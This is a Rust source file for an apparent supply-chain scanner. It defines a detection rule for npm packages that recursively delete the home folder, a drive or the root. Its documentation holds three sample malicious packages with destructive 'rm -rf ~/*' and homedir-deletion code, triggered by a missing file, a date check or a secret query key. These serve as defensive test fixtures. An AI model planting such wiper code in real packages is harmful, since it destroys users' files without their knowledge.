//! # The home folder, a drive or the root is deleted
//!
//! A recursive deletion names the whole home folder, a drive, or the root of the file system.
//!
//! ## Why it matters
//!
//! Wipers came as protest, as revenge, and as the punishment of those who revoke a stolen token.
//!
//! ## Known benign uses
//!
//! None. Clean-up deletes what the program itself made.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const fs = require("fs");
//! fs.writeFileSync("/tmp/monitor.sh", "#!/bin/sh\nif [ ! -f ~/.x/alive ]; then rm -rf ~/*; fi\n"); //~ here
//! exports.x = 1;
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const { rm } = require("node:fs/promises");
//! const os = require("node:os");
//! if (Date.now() > Date.UTC(9999, 1, 1)) rm(os.homedir(), { recursive: true, force: true }); //~ here
//! exports.x = 1;
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const { exec } = require("child_process");
//! exports.middleware = (request, response, next) => {
//!   if (request.query.key === "specimen") exec("rm -rf ~/*"); //~ here
//!   next();
//! };
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js", "scripts": {"clean": "rm -rf dist", "postinstall": "node post.js"}}
//! == index.js
//! const { rmSync } = require("fs"), os = require("os"), path = require("path");
//! exports.clear = () => rmSync(path.join(os.homedir(), ".cache", "x"), { recursive: true, force: true });
//! == post.js
//! require("rimraf").sync(require("path").join(__dirname, "build"));
//! ```
//!
//! ## References
//!
//! - Socket: destructive packages of 2025
//! - Snyk: node-ipc and peacenotwar (March 2022)

use stockade_facts::read::shell::{self, Dialect};
use stockade_model::Limits;

use crate::prelude::*;

/// The home folder, a drive or the root is deleted.
pub struct HomeFolderDeleted;

impl Rule for HomeFolderDeleted {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "home-folder-deleted",
            title: "The home folder, a drive or the root is deleted",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1485",
            covers: &["impact-wiper"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for change in facts.file_changes().filter(|change| change.trigger() != Trigger::Dormant) {
            match change.kind {
                ChangeKind::Deleted if is_wide(&change) && takes_folders(&change.call.api) => {
                    found.call(change.call, "deletes the home folder, a drive or the root");
                }
                ChangeKind::Written if holds_deletion(&change) => {
                    found.call(
                        change.call,
                        "writes a program that deletes the home folder, a drive or the root",
                    );
                }
                _ => {}
            }
        }
        for command in facts.commands().iter().filter(|command| command.trigger != Trigger::Dormant) {
            if command.behaviours.iter().any(|kind| deletes(kind, command.trigger)) {
                found.at(command.trigger, &command.locus, "deletes the home folder, a drive or the root");
            }
        }
    }
}

/// Code that others call gets paths from them, and a root among several possible paths is a guess.
fn is_wide(change: &FileChange<'_>) -> bool {
    let is_sure = change.trigger().runs_unasked()
        || change.path.trim_end_matches(['/', '*']) == "~" && change.is_only_path();
    change.class() == FileClass::WideFolder && is_sure
}

/// Deleting a folder with a call that takes files alone fails.
fn takes_folders(api: &str) -> bool {
    !["unlink", "truncate"].iter().any(|part| api.contains(part))
}

/// Whether shell text that is written to a file deletes everything once something starts it.
fn holds_deletion(change: &FileChange<'_>) -> bool {
    let texts = change.contents.iter().flat_map(|contents| &contents.texts);
    let mut shells = texts.filter(|text| text.starts_with("#!") && !text.contains("node"));
    shells.any(|text| {
        let behaviours = shell::behaviours(&shell::read(text, Dialect::Posix, &Limits::default()));
        behaviours.iter().any(|behaviour| matches!(behaviour.kind, BehaviourKind::DeletesWide { .. }))
    })
}

/// Programs that write disks are what imaging tools run when called.
fn deletes(kind: &BehaviourKind, trigger: Trigger) -> bool {
    match kind {
        BehaviourKind::DeletesWide { target } => {
            trigger.runs_unasked() || target.starts_with(['~', '/', '$', '%'])
        }
        _ => false,
    }
}
